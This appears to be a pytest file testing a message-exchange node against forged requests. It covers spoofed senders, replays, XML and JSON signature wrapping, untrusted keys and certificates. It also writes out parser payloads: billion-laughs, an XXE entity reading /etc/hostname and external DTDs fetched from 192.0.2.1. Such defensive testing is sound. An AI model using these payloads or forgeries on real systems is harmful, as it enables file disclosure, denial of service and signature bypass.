"""Attacks by a party in the directory, over real TLS, with messages of its own make: each answered by its code."""

from __future__ import annotations

import base64
import copy
import hashlib
import json
from collections.abc import Callable, Iterator
from datetime import timedelta

import httpx2
import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from lxml import etree

from builders.exchange import PH, SG
from builders.interop import Across, against, beside
from builders.nodes import opened
from builders.scriptedmessages import Package, create, order
from builders.scriptedpeer import (
    ETSI,
    SPACES,
    ScriptedPeer,
    Tls,
    Tree,
    codes,
    end,
    entry,
    every,
    example_object,
    sign_json,
    sign_xml,
    words,
)

Attack = Callable[[ScriptedPeer], bytes]
NOBODY = "0b7e2a44-0c1d-4c0e-8f7a-3b1f0a9d5e10"


@pytest.fixture(scope="module", params=["json", "xml"])
def wire(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Across]:
    """Our provider's node, and a scripted authority that turns bad."""
    folder = tmp_path_factory.mktemp("wire")
    with opened(folder, today=True) as nodes, against(nodes, folder, ours=SG, encoding=request.param) as made:
        yield made


@pytest.fixture(scope="module")
def taken(wire: Across) -> Package:
    """A package whose order our node took in before."""
    package = wire.package()
    assert codes(wire.peer.ask(*order(package))) == []
    return package


def get(one: str) -> Tree:
    """Ask for an object."""
    return {"GET": {"Identifier": one}}


def refused(wire: Across, raw: bytes, *expected: int) -> str:
    """What our node says to a message that it refuses, with these codes and without any effect."""
    before = effects(wire)
    said = wire.peer.post(raw)
    assert said.status_code == 200, said.text
    answer = wire.peer.believed(said.content)
    assert tuple(codes(answer)) == expected, words(answer)
    assert effects(wire) == before
    return words(answer)


def effects(wire: Across) -> list[str]:
    """What our node did; a refusal on record is no effect."""
    return [kind for kind in wire.nodes.events(SG) if kind not in ("message.refused", "package.refused")]


def edited(peer: ScriptedPeer, edit: Callable[[Tree], object], **head: str) -> bytes:
    """A signed message that asks for nothing much, with a head of the attacker's own."""
    tree = peer.request(get(NOBODY), **head)
    edit(tree["Header"])
    return peer.unchecked(tree)


def test_a_message_for_somebody_else(wire: Across) -> None:
    """What VN wrote to PH is brought to SG, and refused by the receiver in its head."""
    raw = edited(wire.peer, lambda head: head.update(ReceiverIdentifier=end(PH)))
    assert "ReceiverIdentifier" in refused(wire, raw, 3007)


def test_a_message_in_somebody_elses_name(wire: Across) -> None:
    """VN's connection and VN's key say nothing for PH."""
    raw = edited(wire.peer, lambda head: head.update(SenderIdentifier=end(PH)))
    assert "whose connection this is" in refused(wire, raw, 3007)


@pytest.mark.parametrize("version", ["V1.16.1", "V1.24.1"])
def test_a_version_that_is_not_spoken(version: str, wire: Across) -> None:
    """Older than the oldest and newer than the newest: the answer says which versions are spoken."""
    raw = edited(wire.peer, lambda head: head["Version"].update(ETSIVersion=version))
    said = refused(wire, raw, 3021)
    assert "V1.17.1" in said and "V1.23.1" in said


@pytest.mark.parametrize("span", [timedelta(minutes=30), timedelta(days=-40)], ids=["future", "past"])
def test_a_message_of_another_time(span: timedelta, wire: Across) -> None:
    """A message from the future, or older than a month, is refused."""
    at = wire.peer.now() + span
    assert "Timestamp" in refused(wire, wire.peer.signed(wire.peer.request(get(NOBODY), at=at)), 3007)


def test_other_bytes_under_a_known_transaction(wire: Across) -> None:
    """A transaction is one message: another one under it is refused, the first one is answered as before."""
    first = wire.peer.signed(wire.peer.request({"LIST": {}}))
    answer = wire.peer.post(first).content
    transaction = wire.peer.believed(answer)["Header"]["TransactionIdentifier"]
    other = wire.peer.signed(wire.peer.request(get(NOBODY), transaction=transaction))
    assert "transaction" in refused(wire, other, 3007)
    assert wire.peer.post(first).content == answer


def test_an_order_taken_in_before(wire: Across, taken: Package) -> None:
    """The same package in a new message is a duplicate."""
    refused(wire, wire.peer.signed(wire.peer.request(*order(taken))), 3010, 3000, 3000)


def test_a_verb_to_cancel(wire: Across, taken: Package) -> None:
    """There is no CANCEL in the standard; nothing is cancelled by it."""
    raw = wire.peer.unchecked(wire.peer.request({"CANCEL": {"Identifier": taken.task()}}))
    refused(wire, raw, 3020)


def test_a_takedown(wire: Across) -> None:
    """In JSON the standard has no takedown (3019); in XML there is nothing that people signed (3001)."""
    wanted = example_object("request_takedown.xml", 1)
    raw = wire.peer.unchecked(wire.peer.request(create(wanted)))
    refused(wire, raw, 3019 if wire.peer.encoding == "json" else 3001)


def test_an_interception(wire: Across) -> None:
    """ETSI's own example of an interception task is not supported."""
    wanted = example_object("request6_signed.xml", 1)
    refused(wire, wire.peer.unchecked(wire.peer.request(create(wanted))), 3001)


def test_a_stale_generation(wire: Across, taken: Package) -> None:
    """An update of what has changed meanwhile is refused, and what stands is named."""
    update = {
        "@xsi:type": f"{{{SPACES['task']}}}LPTaskObject", "ObjectIdentifier": taken.task(), "Generation": 5,
        "AssociatedObjects": {"AssociatedObject": [taken.id]},
        "task:DesiredStatus": entry("LPTaskDesiredStatus", "Cancelled"),
    }  # fmt: skip
    raw = wire.peer.signed(wire.peer.request({"UPDATE": {"HI1Object": update}}))
    assert "expected 1" in refused(wire, raw, 3008)


def test_another_authoritys_objects(wire: Across, taken: Package) -> None:
    """PH, with its own connection and key, cannot tell VN's objects from what was never there, and changes nothing."""
    with beside(wire, PH) as other:
        listed = other.ask({"LIST": {}})
        assert (codes(listed), every(listed, "Identifier")) == ([], [])
        said = [words(other.ask(get(one))).replace(one, "X") for one in (taken.task(), taken.id, NOBODY)]
        assert len(set(said)) == 1
        assert [codes(other.ask(get(one))) for one in (taken.task(), NOBODY)] == [[3014]] * 2
        for one in (taken.task(), NOBODY):
            wish = {"task:DesiredStatus": entry("LPTaskDesiredStatus", "Cancelled")}
            head = {"@xsi:type": f"{{{SPACES['task']}}}LPTaskObject", "ObjectIdentifier": one}
            linked = {"AssociatedObjects": {"AssociatedObject": [taken.id]}}
            assert codes(other.ask({"UPDATE": {"HI1Object": head | linked | wish}})) == [3011]
        assert codes(other.ask(*order(taken)))[0] == 3007
    assert wire.state(taken.id) == "received"


def test_a_message_that_nobody_signed(wire: Across) -> None:
    """A message without a signature is not read."""
    tree = wire.peer.request(get(NOBODY))
    json_text, xml_text = json.dumps(tree).encode(), etree.tostring(wire.peer.to_xml(tree))
    refused(wire, json_text if wire.peer.encoding == "json" else xml_text, 3000)


def test_a_message_signed_by_a_stranger(wire: Across) -> None:
    """A key that the directory does not have signs for nobody, whatever the message says of it."""
    tree, key = wire.peer.request(get(NOBODY)), Ed25519PrivateKey.generate()
    raw = sign_json(tree, key) if wire.peer.encoding == "json" else sign_xml(wire.peer.to_xml(tree), key)
    assert "not trusted here" in refused(wire, raw, 3000)


def wrapped_xml(raw: bytes, evil: bytes) -> Iterator[bytes]:
    """A signed message around another one: the signature holds for what nobody would read."""
    good, bad = etree.fromstring(raw), etree.fromstring(evil)
    root = copy.deepcopy(bad)
    root[2][:] = []
    root.replace(root[2], copy.deepcopy(good[2]))
    yield etree.tostring(root)
    root = copy.deepcopy(bad)
    root.remove(root[2])
    root.append(copy.deepcopy(good))
    yield etree.tostring(root)
    root = copy.deepcopy(bad)
    root.replace(root[2], copy.deepcopy(good[2]))
    etree.SubElement(root[2], "{http://www.w3.org/2000/09/xmldsig#}Object").append(copy.deepcopy(good))
    yield etree.tostring(root)
    root = copy.deepcopy(good)
    root.insert(1, copy.deepcopy(bad[1]))
    yield etree.tostring(root)
    root = copy.deepcopy(good)
    root.append(copy.deepcopy(bad[2]))
    yield etree.tostring(root)


def wrapped_json(raw: bytes, evil: bytes) -> Iterator[bytes]:
    """A signed message beside another one, under every name that a reader could mistake."""
    good, bad = json.loads(raw), json.loads(evil)
    yield json.dumps(bad | {"Signatures": good["Signatures"]}).encode()
    yield json.dumps(bad | {"Signatures": good["Signatures"], "signatures": good}).encode()
    yield json.dumps(good | {"Signatures": [*good["Signatures"], *bad["Signatures"]]}).encode()
    yield json.dumps(good | {"Signed": bad}).encode()
    yield raw.replace(b'"Payload"', b'"Payload": ' + json.dumps(bad["Payload"]).encode() + b', "Payload"')


WRAPPED = {"json": (3000, 3020, 3000, 3020, 3020), "xml": (3000, 3020, 3000, 3020, 3000)}


@pytest.mark.parametrize("how", range(5))
def test_a_signature_wrapped_around_something_else(how: int, wire: Across) -> None:
    """A good signature beside other content covers nothing of it: another form is refused (3020), or the signature (3000)."""
    raw = wire.peer.signed(wire.peer.request({"LIST": {}}))
    evil = wire.peer.signed(wire.peer.request(get(NOBODY)))
    wrapped = list((wrapped_json if wire.peer.encoding == "json" else wrapped_xml)(raw, evil))[how]
    before = effects(wire)
    answer = wire.peer.asked(wrapped)
    assert codes(answer) == [WRAPPED[wire.peer.encoding][how]], words(answer)
    assert every(answer, "LISTResponse") == every(answer, "GETResponse") == []
    assert effects(wire) == before


def bombs() -> dict[str, bytes]:
    """What breaks a parser that trusts."""
    head = b'<?xml version="1.0"?>\n'
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    request = (ETSI / "examples" / "request4-Preservation-Link.xml").read_bytes().partition(b"?>")[2]
    entity = request.replace(b"W000001", b"&x;")
    return {
        "laughs": head + b'<!DOCTYPE m [<!ENTITY l0 "ha">' + laughs + b"]>" + request.replace(b"W000001", b"&l9;"),
        "file": head + b'<!DOCTYPE m [<!ENTITY x SYSTEM "file:///etc/hostname">]>' + entity,
        "network": head + b'<!DOCTYPE m SYSTEM "http://192.0.2.1/evil.dtd">' + request,
        "parameter": head + b'<!DOCTYPE m [<!ENTITY % p SYSTEM "http://192.0.2.1/p">%p;]>' + request,
        "depth": b"<a>" * 5_000 + b"</a>" * 5_000,
        "utf-16": '<?xml version="1.0" encoding="UTF-16"?><a/>'.encode("utf-16"),
        "stylesheet": head + b'<?xml-stylesheet href="http://192.0.2.1/x"?>' + request,
        "brackets": b'{"a":' + b"[" * 100_000,
        "twice": b'{"Header": {}, "Header": {}, "Payload": {}}',
        "nan": b'{"Header": NaN}',
        "surrogate": b'{"Header": "\\ud800"}',
        "nothing": b"",
        "text": b"hello",
    }


@pytest.mark.parametrize("name", bombs())
def test_what_breaks_parsers(name: str, wire: Across) -> None:
    """Entities, depth, double keys and what is no message get one small signed answer, and the next message is served."""
    raw = bombs()[name]
    kind = "application/xml" if raw.lstrip()[:1] in (b"<", b"\xff") else "application/json"
    said = wire.peer.post(raw, media=kind)
    assert said.status_code == 200
    assert len(said.content) < 5_000
    answer = wire.peer.believed(said.content)
    assert codes(answer) == [3019 if name in ("utf-16", "nothing", "text") else 3020]
    assert b"192.0.2.1" not in said.content
    assert codes(wire.peer.ask({"LIST": {}})) == []


def test_a_message_above_what_can_be_read(wire: Across) -> None:
    """A message that the endpoint takes and no reader does is answered with 3022."""
    blank = b" " * (33 << 20)
    raw = b"{" + blank + b"}" if wire.peer.encoding == "json" else b"<a>" + blank + b"</a>"
    assert "expected at most" in refused(wire, raw, 3022)


def test_a_package_that_is_damaged(wire: Across) -> None:
    """A checksum that does not fit, a package that was changed, and a document without a body are each refused whole."""
    for damage, code in ((_other_checksum, 3007), (_other_package, 3007), (_no_body, 3005)):
        actions = order(wire.package())
        damage(actions[1]["CREATE"]["HI1Object"])
        refused(wire, wire.peer.unchecked(wire.peer.request(*actions)), 3000, code, 3000)


def _other_checksum(thing: Tree) -> None:
    thing["doc:DocumentBody"]["doc:Checksum"] = "0" * 64


def _other_package(thing: Tree) -> None:
    sealed = base64.b64decode(thing["doc:DocumentBody"]["doc:Contents"])
    raw = sealed.replace(b"Voluntary", b"Mandatory", 1)
    assert raw != sealed
    thing["doc:DocumentBody"]["doc:Contents"] = base64.b64encode(raw).decode()
    thing["doc:DocumentBody"]["doc:Checksum"] = hashlib.sha256(raw).hexdigest()


def _no_body(thing: Tree) -> None:
    del thing["doc:DocumentBody"]["doc:Contents"]


def test_a_task_that_nobody_signed(wire: Across) -> None:
    """One more task, or another account than the sealed request names, refuses the whole order."""
    actions = order(wire.package())
    value = every(actions[2], "RequestValue")[0]
    value["task:Value"] = "somebody.else@example.org"
    assert "as in the sealed request" in refused(wire, wire.peer.signed(wire.peer.request(*actions)), 3000, 3000, 3007)
    actions = order(wire.package())
    more = copy.deepcopy(actions[2])
    more["CREATE"]["HI1Object"]["ObjectIdentifier"] = NOBODY
    refused(wire, wire.peer.signed(wire.peer.request(*actions, more)), 3007, 3000, 3000, 3000)


def test_a_message_in_the_wrong_dress(wire: Across) -> None:
    """A message under another media type gets a plain status and is not read."""
    raw = wire.peer.signed(wire.peer.request({"LIST": {}}))
    assert wire.peer.post(raw, media="text/plain").status_code == 415


def test_a_certificate_of_ones_own(wire: Across) -> None:
    """A key that the directory does not have gets no connection, whatever is in the message."""
    stranger = Tls.make(wire.nodes.folder / "stranger.pem")
    with pytest.raises(httpx2.TransportError):
        wire.peer.post(wire.peer.signed(wire.peer.request({"LIST": {}})), tls=stranger)


def test_somebody_elses_connection(wire: Across) -> None:
    """What VN signed, brought over PH's connection, is not taken for VN's."""
    with beside(wire, PH) as other:
        said = other.post(wire.peer.signed(wire.peer.request({"LIST": {}})))
        answer = other.believed(said.content)
        assert codes(answer) == [3007]
        assert "whose connection this is" in words(answer)
